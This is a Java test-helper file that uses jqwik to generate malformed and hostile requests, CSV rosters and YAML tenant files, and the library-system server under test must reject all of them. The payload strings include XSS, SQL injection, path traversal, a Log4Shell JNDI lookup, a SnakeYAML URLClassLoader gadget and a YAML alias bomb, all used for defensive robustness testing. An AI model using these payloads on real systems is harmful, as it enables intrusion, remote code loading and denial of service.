package org.servicepoint.app;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import org.servicepoint.platform.control.JsonStrings;

/**
 * Malformed and hostile requests for one endpoint, made by jqwik's generators from a valid example of its
 * body. Every request made here carries at least one fault that no correct server may accept (a field the
 * form does not know, a required field gone, a code or id that is no code or id of this library system, a
 * body that is no JSON, a path of another library system, a body too large, another JSON type where text belongs),
 * and besides that up to three
 * more faults of any kind (wrong types, huge and empty values, markup, control characters, invalid UTF-8).
 * So the only right answers are 4xx problems, and nothing may be stored.
 */
final class HostileInputs {

    /**
     * One endpoint: where it is, a body it would accept, which fields it needs and which hold codes or ids
     * (anything but a code or id of this library system is refused there), and ids of another library system
     * that fit those fields.
     */
    record Target(String method, String path, String otherTenantPath, Map<String, Object> example, Set<String> required,
                  Set<String> strict, Map<String, List<Object>> foreign) {
    }

    /** A request as sent: the fault that must make it fail, for the message when it does not. */
    record Request(String method, String path, String contentType, byte[] body, String fault) {
        String shown() {
            String text = new String(body, StandardCharsets.UTF_8);
            return method + " " + path + " [" + contentType + "] " + fault + ": "
                    + (text.length() > 300 ? text.substring(0, 300) + "… (" + body.length + " bytes)" : text);
        }
    }

    /** Stands for bytes that are no UTF-8; replaced when the body is encoded. */
    static final char INVALID_UTF8 = '\uE000';
    private static final byte[] INVALID_UTF8_BYTES = {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE, (byte) 0x80};

    private HostileInputs() {
    }

    /**
     * Strings that are no code, date, id, card or slug anywhere: each holds a character none of them allows. Not blank:
     * an optional field left blank counts as not given (blanks go to required fields, see {@link #requests}).
     */
    static Arbitrary<String> notACode() {
        Arbitrary<String> poison = Arbitraries.of("<script>alert(1)</script>", "<b>", "\"", "'; drop table tenant; --", "../../etc/passwd",
                "${jndi:ldap://x/a}", "%00", "\u0000", "\u0007", "\u001b[31m", "\u202e", "{}", "[]", "😀", "\\", "&amp;", "=", "?",
                "#", "*", "\u0085", "\u2028", String.valueOf(INVALID_UTF8));
        Arbitrary<String> around = Arbitraries.strings().withCharRange('a', 'z').withCharRange('0', '9').ofMaxLength(12);
        Arbitrary<String> embedded = Combinators.combine(around, poison, around).as((a, p, b) -> a + p + b);
        Arbitrary<String> huge = Arbitraries.integers().between(2_000, 90_000).map(n -> "<" + "9".repeat(n));
        return Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(8, embedded), net.jqwik.api.Tuple.of(1, huge));
    }

    /** Any value at all, for the faults besides the one that must fail. */
    static Arbitrary<Object> anyValue() {
        Arbitrary<Object> strings = Arbitraries.strings().all().ofMaxLength(60).map(s -> (Object) s);
        Arbitrary<Object> markup = Arbitraries.of("<img src=x onerror=alert(1)>", "<iframe src=//evil>", "<!--", "]]>", "javascript:alert(1)")
                .map(s -> (Object) s);
        Arbitrary<Object> controls = Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMinLength(1).ofMaxLength(8).map(s -> (Object) s);
        Arbitrary<Object> invalid = Arbitraries.strings().alpha().ofMaxLength(5).map(s -> (Object) (s + INVALID_UTF8 + s));
        Arbitrary<Object> numbers = Arbitraries.oneOf(Arbitraries.integers().map(i -> (Object) i),
                Arbitraries.of(Long.MAX_VALUE, -1L, 0L, 1e308, -0.0, 9.999999999999999e22).map(n -> (Object) n));
        Arbitrary<Object> special = Arbitraries.of(true, false, "null-object", "empty-array", "empty-object", "nested")
                .map(v -> switch (String.valueOf(v)) {
                    case "null-object" -> JsonNull.NULL;
                    case "empty-array" -> List.of();
                    case "empty-object" -> Map.of();
                    case "nested" -> nested(40);
                    default -> v;
                });
        Arbitrary<Object> huge = Arbitraries.integers().between(1_000, 30_000).map(n -> (Object) "x".repeat(n));
        return Arbitraries.oneOf(strings, markup, controls, invalid, numbers, special, huge, notACode().map(s -> (Object) s));
    }

    static Object nested(int depth) {
        Object value = List.of(1);
        for (int i = 0; i < depth; i++) {
            value = List.of(value);
        }
        return value;
    }

    /** JSON's null, which Map.of cannot hold. */
    enum JsonNull { NULL }

    /** Requests for the target (drawn by jqwik: a property's seed makes them repeatable). */
    static Arbitrary<Request> requests(Target target) {
        List<String> fields = new ArrayList<>(target.example().keySet());
        List<String> strict = new ArrayList<>(target.strict());
        List<String> required = new ArrayList<>(target.required());
        List<String> foreignFields = new ArrayList<>(target.foreign().keySet());

        Arbitrary<Map<String, Object>> unknownField = Combinators.combine(
                Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(20).map(s -> "x_" + s), anyValue())
                .as((name, value) -> with(target.example(), name, value));
        Arbitrary<Map<String, Object>> requiredGone = required.isEmpty() ? unknownField
                : Combinators.combine(Arbitraries.of(required), Arbitraries.of("remove", "null", "", " ", "\t", "\n"))
                .as((field, how) -> {
                    Map<String, Object> body = new LinkedHashMap<>(target.example());
                    switch (how) {
                        case "remove" -> body.remove(field);
                        case "null" -> body.put(field, JsonNull.NULL);
                        default -> body.put(field, how);
                    }
                    return body;
                });
        Arbitrary<Map<String, Object>> strictHostile = strict.isEmpty() ? unknownField
                : Combinators.combine(Arbitraries.of(strict), notACode()).as((field, value) -> with(target.example(), field, value));
        Arbitrary<Map<String, Object>> wrongShape = strict.isEmpty() ? unknownField
                : Combinators.combine(Arbitraries.of(strict), Arbitraries.integers().between(0, 2)).as((field, pick) -> {
                    // Another JSON type than the field's: an object where text belongs, text or a list where an object does.
                    List<Object> others = target.example().get(field) instanceof Map<?, ?>
                            ? List.of(List.of("a"), "text", 42) : List.of(List.of("a"), Map.of("a", 1), Map.of());
                    return with(target.example(), field, others.get(pick));
                });
        // A number, a flag, a list or an object where the example has text: JSON-B once read 42 as "42" (issue 10).
        List<String> textFields = fields.stream().filter(f -> target.example().get(f) instanceof String).toList();
        Arbitrary<Map<String, Object>> textOfAnotherType = textFields.isEmpty() ? unknownField
                : Combinators.combine(Arbitraries.of(textFields), Arbitraries.<Object>of(42, 0, -1.5, true, false, List.of(),
                        List.of("a"), Map.of(), Map.of("a", "b"))).as((field, value) -> with(target.example(), field, value));
        Arbitrary<Map<String, Object>> foreignId = foreignFields.isEmpty() ? strictHostile
                : Arbitraries.of(foreignFields).flatMap(field -> Arbitraries.of(target.foreign().get(field))
                .map(value -> with(target.example(), field, value)));
        Arbitrary<Map<String, Object>> huge = fields.isEmpty() ? unknownField
                : Combinators.combine(Arbitraries.of(fields), Arbitraries.integers().between(70_000, 300_000))
                .as((field, n) -> with(target.example(), field, "y".repeat(n)));

        Arbitrary<Map<String, Object>> certain = Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(3, unknownField), net.jqwik.api.Tuple.of(3, requiredGone), net.jqwik.api.Tuple.of(6, strictHostile),
                net.jqwik.api.Tuple.of(2, wrongShape), net.jqwik.api.Tuple.of(3, foreignId), net.jqwik.api.Tuple.of(1, huge),
                net.jqwik.api.Tuple.of(2, textOfAnotherType));
        // Besides the certain fault, up to three more anywhere: they may not turn a refusal into a 5xx.
        Arbitrary<Map<String, Object>> noisy = Combinators.combine(certain,
                        Arbitraries.of(fields.isEmpty() ? List.of("x") : fields).list().ofMaxSize(3), anyValue().list().ofSize(3))
                .as((body, noiseFields, noiseValues) -> {
                    Map<String, Object> changed = new LinkedHashMap<>(body);
                    for (int i = 0; i < noiseFields.size(); i++) {
                        String field = noiseFields.get(i);
                        // Noise never repairs the certain fault: it only touches fields the fault left as in the example.
                        if (changed.containsKey(field) && java.util.Objects.equals(changed.get(field), target.example().get(field))) {
                            changed.put(field, noiseValues.get(i));
                        }
                    }
                    return changed;
                });
        Arbitrary<Request> jsonRequests = noisy
                .map(body -> new Request(target.method(), target.path(), "application/json", encode(toJson(body)), describe(body, target)));

        Arbitrary<Request> malformed = malformedBodies().map(bytes -> new Request(target.method(), target.path(), "application/json", bytes,
                "not a JSON object"));
        Arbitrary<Request> otherTenant = target.otherTenantPath() == null ? malformed
                : Combinators.combine(noisy, Arbitraries.of(true, false)).as((body, plain) -> new Request(target.method(),
                target.otherTenantPath(), "application/json", encode(toJson(plain ? target.example() : body)), "another library system's path"));
        Arbitrary<Request> wrongType = Arbitraries.of("application/xml", "text/html", "multipart/form-data; boundary=x",
                        "application/x-www-form-urlencoded")
                .map(type -> new Request(target.method(), target.path(), type, encode(toJson(target.example())), "content type " + type));

        return Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(14, jsonRequests), net.jqwik.api.Tuple.of(3, malformed),
                net.jqwik.api.Tuple.of(2, otherTenant), net.jqwik.api.Tuple.of(1, wrongType));
    }

    private static String describe(Map<String, Object> body, Target target) {
        List<String> changed = new ArrayList<>();
        for (String key : body.keySet()) {
            if (!java.util.Objects.equals(body.get(key), target.example().get(key))) {
                changed.add(key);
            }
        }
        for (String key : target.example().keySet()) {
            if (!body.containsKey(key)) {
                changed.add("-" + key);
            }
        }
        return "faults in " + changed;
    }

    static Arbitrary<byte[]> malformedBodies() {
        Arbitrary<String> texts = Arbitraries.of("", " ", "{", "}", "{\"a\":", "[1,2", "[]", "[{}]", "null", "true", "42", "\"text\"",
                "{\"a\":1,}", "{'single':'quotes'}", "<xml/>", "a: yaml", "{\"a\":\"\\ud800\"}", "{\"a\":1e999999}",
                "{\"a\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}", "\u0000\u0001\u0002", "{\"__proto__\":{}}",
                "{\"a\":\"" + INVALID_UTF8 + "\"}", String.valueOf(INVALID_UTF8));
        Arbitrary<String> random = Arbitraries.strings().all().ofMaxLength(200);
        Arbitrary<String> truncated = Arbitraries.integers().between(1, 30).map(n -> "{\"tagName\":\"abc\",\"branch\":\"HQ\"".substring(0, n));
        return Arbitraries.oneOf(texts, random, truncated).map(HostileInputs::encode);
    }

    /** A CSV roster file with at least one row that cannot be imported, among good ones. */
    static Arbitrary<Request> rosterCsv(String path) {
        String header = "tag_name,username,position,branch,employment_type,starts_on,ends_on";
        Arbitrary<Integer> column = Arbitraries.integers().between(2, 5);
        Arbitrary<String> badRow = Combinators.combine(column, notACode()).as((col, value) -> {
            String[] row = {"Robin", "", "library-assistant", "PINE-HOLLOW", "permanent", "2024-01-01", ""};
            row[col] = value;
            return csvRow(row);
        });
        Arbitrary<Request> files = Combinators.combine(badRow, Arbitraries.integers().between(0, 3), Arbitraries.of(true, false))
                .as((bad, good, first) -> {
                    StringBuilder csv = new StringBuilder(header).append("\r\n");
                    if (first) {
                        csv.append(bad);
                    }
                    for (int i = 0; i < good; i++) {
                        csv.append(csvRow(new String[] {"Good " + i, "", "library-assistant", "PINE-HOLLOW", "permanent", "2024-01-01", ""}));
                    }
                    if (!first) {
                        csv.append(bad);
                    }
                    return new Request("POST", path, "text/csv", encode(csv.toString()), "a bad row");
                });
        Arbitrary<Request> noHeader = malformedBodies().map(b -> new Request("POST", path, "text/csv", b, "no header"));
        return Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(4, files), net.jqwik.api.Tuple.of(1, noHeader));
    }

    static String csvRow(String[] values) {
        StringBuilder row = new StringBuilder();
        for (int i = 0; i < values.length; i++) {
            if (i > 0) {
                row.append(',');
            }
            row.append('"').append(values[i].replace("\"", "\"\"")).append('"');
        }
        return row.append("\r\n").toString();
    }

    /** A tenant file (YAML) that cannot be applied: a hostile slug, an unknown key, a tab, an alias bomb or no mapping. */
    static Arbitrary<Request> tenantFiles(String path, String validYaml, String slug) {
        Arbitrary<String> hostileSlug = notACode().map(s -> validYaml.replace("slug: " + slug, "slug: " + yamlQuote(s)));
        Arbitrary<String> unknownKey = Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(12)
                .map(k -> validYaml + "\nx_" + k + ": 1\n");
        Arbitrary<String> tab = Arbitraries.just(validYaml.replaceFirst("\n  ", "\n\t"));
        Arbitrary<String> bomb = Arbitraries.integers().between(5, 12).map(HostileInputs::aliasBomb);
        Arbitrary<String> notMapping = Arbitraries.of("- a\n- b\n", "just text", "42", "~", "!!binary AAAA", "a: &a [*a]",
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]");
        Arbitrary<String> yaml = Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(4, hostileSlug), net.jqwik.api.Tuple.of(3, unknownKey),
                net.jqwik.api.Tuple.of(1, tab), net.jqwik.api.Tuple.of(1, bomb), net.jqwik.api.Tuple.of(1, notMapping));
        return Combinators.combine(yaml, Arbitraries.of("plan", "apply")).as((content, verb) -> {
            Map<String, Object> file = new LinkedHashMap<>();
            file.put("path", "tenants/" + slug + "/tenant.yaml");
            file.put("content", content);
            return new Request("POST", path + "/" + verb, "application/json", encode(toJson(Map.of("files", List.of(file)))),
                    "a tenant file that cannot be applied");
        });
    }

    static String aliasBomb(int levels) {
        StringBuilder yaml = new StringBuilder("a0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (int i = 1; i <= levels; i++) {
            yaml.append("a").append(i).append(": &a").append(i).append(" [");
            for (int j = 0; j < 9; j++) {
                yaml.append(j == 0 ? "" : ",").append("*a").append(i - 1);
            }
            yaml.append("]\n");
        }
        return yaml.toString();
    }

    static String yamlQuote(String value) {
        StringBuilder quoted = new StringBuilder("\"");
        for (char c : value.toCharArray()) {
            if (c == '"' || c == '\\') {
                quoted.append('\\').append(c);
            } else if (c < 0x20 || c == 0x7f) {
                quoted.append(String.format("\\x%02x", (int) c));
            } else {
                quoted.append(c);
            }
        }
        return quoted.append('"').toString();
    }

    static Map<String, Object> with(Map<String, Object> example, String field, Object value) {
        Map<String, Object> body = new LinkedHashMap<>(example);
        body.put(field, value);
        return body;
    }

    // ---- JSON as sent: written by hand so that the faults reach the server exactly as made ----

    static String toJson(Object value) {
        StringBuilder json = new StringBuilder();
        write(json, value);
        return json.toString();
    }

    private static void write(StringBuilder json, Object value) {
        if (value == null || value == JsonNull.NULL) {
            json.append("null");
        } else if (value instanceof String s) {
            JsonStrings.quote(json, s);
        } else if (value instanceof Map<?, ?> map) {
            json.append('{');
            boolean first = true;
            for (Map.Entry<?, ?> e : map.entrySet()) {
                if (!first) {
                    json.append(',');
                }
                first = false;
                write(json, String.valueOf(e.getKey()));
                json.append(':');
                write(json, e.getValue());
            }
            json.append('}');
        } else if (value instanceof List<?> list) {
            json.append('[');
            for (int i = 0; i < list.size(); i++) {
                if (i > 0) {
                    json.append(',');
                }
                write(json, list.get(i));
            }
            json.append(']');
        } else if (value instanceof Double d && (d.isNaN() || d.isInfinite())) {
            json.append("1e999");
        } else {
            json.append(value);
        }
    }

    /** UTF-8, except where {@link #INVALID_UTF8} stands: there go bytes that are no UTF-8. */
    static byte[] encode(String text) {
        ByteArrayOutputStream out = new ByteArrayOutputStream(text.length() + 16);
        int start = 0;
        for (int i = 0; i < text.length(); i++) {
            if (text.charAt(i) == INVALID_UTF8) {
                out.writeBytes(text.substring(start, i).getBytes(StandardCharsets.UTF_8));
                out.writeBytes(INVALID_UTF8_BYTES);
                start = i + 1;
            }
        }
        out.writeBytes(text.substring(start).getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }
}
